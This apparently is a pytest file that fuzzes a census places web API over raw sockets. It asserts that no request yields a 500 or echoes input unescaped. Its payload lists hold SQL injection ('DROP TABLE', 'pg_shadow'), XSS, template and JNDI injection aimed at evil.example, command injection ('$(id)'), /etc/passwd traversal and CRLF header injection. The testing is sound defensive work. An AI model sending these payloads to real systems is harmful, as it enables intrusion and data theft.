"""Hostile input in every place that takes any, over raw sockets: never a 500, and never echoed."""

import re
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from itertools import islice
from typing import NamedTuple
from urllib.parse import quote

import pytest

from localidades_api.app import create_app
from localidades_api.settings import Settings
from tests.support.catalogue import Place, write_catalogue
from tests.support.postgres import new_database
from tests.support.wire import Live, environment, run, send, serving

# A few of each kind: what is bound, escaped or refused is so whatever the input says.
SQL = [
    "'", '"', "' OR '1'='1", '" OR ""="', "1; DROP TABLE localities--", "' UNION SELECT * FROM pg_shadow--",
    "'||pg_sleep(10)--", "1/**/OR/**/1=1", "\\'; SELECT 1--", "$$;SELECT 1;$$", "_%_%_%_%", "\\", "E'\\047'",
    ":release_id", "$1", "{1,2}", "a & b | !c", "a:*", "(((((((((((", "'a' <-> 'b'",
]  # fmt: skip
HTML = [
    "<script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>", "<!--<script>alert(1)//-->", "javascript:alert(1)",
    '" onfocus=alert(1) autofocus="', "&lt;script&gt;", "<math><mtext></form><form>", "]]><x>",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "${7*7}", "{{''.__class__.__mro__}}", "{% include '/etc/passwd' %}", "{0.__class__}", "%s%s%s%n",
    "%(password)s", "{}", "{0}", "{password}", "${jndi:ldap://evil.example/a}", '{"$gt":""}', "__proto__", "; id",
    "$(id)", "\n/bin/id", "--help", "> /tmp/x",
]  # fmt: skip
PLACES = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "..;/..;/",
    "..%2f..%2fetc%2fpasswd", "%252e%252e%252f", "..%c0%af..%c0%afetc", "C:\\boot.ini", "\\\\evil.example\\a",
    "//evil.example", "/\\evil.example", "https://evil.example/", "a/../b", "?page=2", "#top", ";jsessionid=1",
    "&page=2", "page=2&page=3",
]  # fmt: skip
CONTROL = [
    "\x00", "1\x00", "a\x00b", "\r\n", "\r\nSet-Cookie: a=b", "\r\nX-Injected: 1", "\n\nbody", "\r", "\n", "\t",
    "\x0b\x0c", "\x1b[2J", "\x7f", "\x85", "\u2028", "%0d%0aX-Injected:1", "%E5%98%8A%E5%98%8DX-Injected:1",
]  # fmt: skip
UNICODE = [
    "١", "１", "²", "½", "1\u00a0", "\u200b1", "\ufeff1", "1\u202e2", "\u2066a\u2069", "\U0001f4a9", "\U0010ffff",
    "\ufffe", "e\u0301" * 40, "a" + "\u0300" * 80, "\ufdfa" * 30, "ﬀ", "ı", "İ", "ß" * 80, "＜script＞", "ﷺ", "שָׁלוֹם",
    "田中さん", "\U000e0001\U000e0041",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "-1", "+1", "1.0", "1e3", "1e309", "NaN", "Infinity", "-inf", "0x10", "1_000", "1,000", " 1", "1 ", "01",
    "2147483647", "2147483648", "-2147483649", "9007199254740993", "9223372036854775808", "9" * 400, "0" * 400,
    "0." + "0" * 300 + "1", "90.0000001", "-180.5", "1e-400", "", " ", "null", "[]",
]  # fmt: skip
LONG = ["a" * 3000, "%" * 500, "(" * 1000, "a," * 1000, "'" * 500, "\u00f1" * 500, "a b " * 500]

# Invalid UTF-8: overlong forms, surrogates and truncated characters, as bytes on the wire.
BYTES = [
    b"\xc0\xaf", b"\xc0\x80", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xc1\xbc", b"\xed\xa0\x80", b"\xed\xbf\xbf",
    b"\xed\xa0\xbd\xed\xb2\xa9", b"\xff", b"\xfe\xff", b"\x80", b"\xc3", b"\xe2\x82", b"\xf0\x9f\x92",
    b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xc3\x28", b"a\xffb",
]  # fmt: skip
TEXTS = [*SQL, *HTML, *TEMPLATES, *PLACES, *CONTROL, *UNICODE, *NUMBERS, *LONG]
INPUTS = list(dict.fromkeys([*(text.encode() for text in TEXTS), *BYTES]))


def encoded(data: bytes) -> bytes:
    """Return an input as a part of a URL, with every byte escaped except letters and digits."""
    return quote(data, safe="").encode()


def decoded(data: bytes) -> bytes:
    """Return an input without the characters that would end the request line."""
    return data.translate(None, b"\r\n ")


LIST = "/api/census/localidades/"
PATHS = ["/{}", "/api/{}", "/api/census/{}/", LIST + "{}/", LIST + "{}", "/api/census/estados/{}/", "/static/{}",
         "/api/census/municipios/{}/", "/api/census/releases/{}/changes/?since=2020-01", "/docs/{}"]  # fmt: skip
HEADERS = ["Host", "Accept", "Accept-Language", "Accept-Encoding", "If-None-Match", "If-Modified-Since", "Range",
           "Origin", "Referer", "User-Agent", "Cookie", "Authorization", "Content-Type", "X-Forwarded-For",
           "X-Forwarded-Host", "X-Forwarded-Proto", "X-Forwarded-Prefix", "Forwarded", "X-Request-ID", "Prefer",
           "X-HTTP-Method-Override", "X-Original-URL", "Traceparent"]  # fmt: skip

_PLAIN_NAME = re.compile(rb"[A-Za-z0-9_.-]{1,40}")
ROWS = b"lugar,mpio,nombre\r\nLugar 1,,Lugar 1\r\n"
_SHORT = 3  # bytes; shorter inputs may occur by chance
_TELLING = re.compile(rb"[^A-Za-z0-9 .,:+-]")  # inputs without such characters may occur by chance
# One relative URL, whose query is kept as sent, or several with their relations: nothing in them ends the
# URL, the header or the line.
_ADDRESSES = re.compile(
    rb'(?!//|[a-z]+:)[A-Za-z0-9._~%/-]*(\?[!-~\x80-\xff]*)?|(</[A-Za-z0-9._~%/?=&+-]*>; rel="[a-z]+"(, )?)+'
)


class Sent(NamedTuple):
    """A request and its hostile part."""

    place: str
    data: bytes
    request: bytes


def request_of(place: str, data: bytes, target: bytes, *headers: bytes, method: bytes = b"GET") -> Sent:
    host = () if place == "header Host" else (b"Host: test",)
    body = ROWS if method == b"POST" else b""
    framing = (b"Content-Type: text/csv", b"Content-Length: %d" % len(body)) if body else ()
    lines = [method + b" " + target + b" HTTP/1.1", *host, b"Connection: close", *framing, *headers, b"", body]
    return Sent(place, data, b"\r\n".join(lines))


def parameters() -> Iterator[tuple[str, str, bytes, bytes]]:
    """Yield paths, parameters, targets without the value, and methods."""
    document = create_app(Settings()).openapi()
    operations = [(path, *one) for path, item in document["paths"].items() for one in item.items()]
    for path, method, operation in operations:
        given = operation.get("parameters", [])
        known = {one["name"]: one["example"] for one in given if one["in"] == "path"} | {"name": "2020-01"}
        taken = [one for one in given if one["in"] == "query"]
        for one in taken:
            needed = {other["name"]: other["example"] for other in taken if other["required"] and other is not one}
            others = "".join(f"{name}={value}&" for name, value in needed.items())
            target = f"{path.format_map(known)}?{others}{one['name']}="
            yield path, one["name"], target.encode(), method.upper().encode()


def in_parameters() -> Iterator[Sent]:
    for path, name, target, method in parameters():
        for data in INPUTS:
            yield request_of(f"{path} {name}", data, target + encoded(data), method=method)
    for name, (target, method) in {name: (target, method) for _, name, target, method in parameters()}.items():
        for data in INPUTS:
            yield request_of(f"{name}, decoded", data, target + decoded(data), method=method)
            yield request_of(f"{name}, as a page", data, target + encoded(data) + b"&format=api", method=method)


def in_names_of_parameters() -> Iterator[Sent]:
    for data in INPUTS:
        if not _PLAIN_NAME.fullmatch(data):  # a plain name is shown, so that users find their typo
            for form in (encoded(data), decoded(data)):
                yield request_of("name", data, LIST.encode() + b"?" + form + b"=1")
                yield request_of("name, as a page", data, LIST.encode() + b"?format=api&" + form + b"=1")


def in_paths() -> Iterator[Sent]:
    for path in PATHS:
        before, _, after = path.encode().partition(b"{}")
        for data in INPUTS:
            yield request_of(path, data, before + encoded(data) + after)
            yield request_of(f"{path}, decoded", data, before + decoded(data) + after)


def in_headers() -> Iterator[Sent]:
    for name in HEADERS:
        header = name.encode() + b": "
        for data in INPUTS:
            yield request_of(f"header {name}", data, LIST.encode() + b"?page=2", header + data)
            yield request_of(f"header {name}", data, b"/api/census/?format=api", header + encoded(data))


@pytest.fixture(scope="module")
def live(server: str, migrated: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    """Yield a server of places with harmless names and a long database timeout."""
    places = [Place(f"01001{number:04d}", f"Lugar {number}") for number in range(1, 133)]
    path = write_catalogue(tmp_path_factory.mktemp("plain") / "catun_localidad_2020-01.csv", places)
    with new_database(server, migrated) as url:
        assert run("import", str(path), env=environment(url)).returncode == 0
        with serving(url, LOCALIDADES_DATABASE_TIMEOUT="30") as live:
            yield live


# 53 is a prime: each place gets a different share of the inputs, and together they get all.
@pytest.mark.parametrize("each", [53, pytest.param(1, marks=[pytest.mark.tail, pytest.mark.timeout(600)])])
@pytest.mark.parametrize("sent", [in_parameters, in_names_of_parameters, in_paths, in_headers])
def test_hostile_input_is_never_a_500_nor_echoed(
    live: Live, sent: Callable[[], Iterator[Sent]], each: int, capsys: pytest.CaptureFixture[str]
) -> None:
    statuses: Counter[int] = Counter()
    faults = []
    with ThreadPoolExecutor(4) as pool:
        for one, answer in pool.map(lambda one: (one, send(live.base, one.request)), islice(sent(), 0, None, each)):
            status = status_of(answer)
            statuses[status] += 1
            if not 200 <= status < 500 or came_back(one, answer):
                faults.append((one.place, one.data[:60], status, answer[:1000]))
    with capsys.disabled():
        told = ", ".join(f"{count:,} answered {status}" for status, count in sorted(statuses.items()))
        print(f"\n{statuses.total():,} requests with hostile input {sent.__name__.replace('_', ' ')}: {told}")  # noqa: T201
    assert faults == []
    log = live.output.read_text()
    assert "Traceback" not in log
    assert "ERROR" not in log


def status_of(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0


def came_back(one: Sent, answer: bytes) -> bool:
    """Return whether a response echoes the input unescaped.

    `Link` and `Location` may, escaped; a page may show the search as text.
    """
    head, _, body = answer.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    addresses = [line.partition(b": ")[2] for line in lines if line.startswith((b"link: ", b"location: "))]
    if not all(_ADDRESSES.fullmatch(value) for value in addresses):
        return True
    head = b"\n".join(line for line in lines if not line.startswith((b"link: ", b"location: ")))
    if any(mark in head for mark in (b"X-Injected", b"a=b", b"evil.example")):
        return True
    if len(one.data) <= _SHORT:
        return False
    if b"text/html" in head:
        return any(mark in one.data for mark in (b"<", b'"', b"'")) and one.data in body
    return bool(_TELLING.search(one.data)) and one.data in head + body
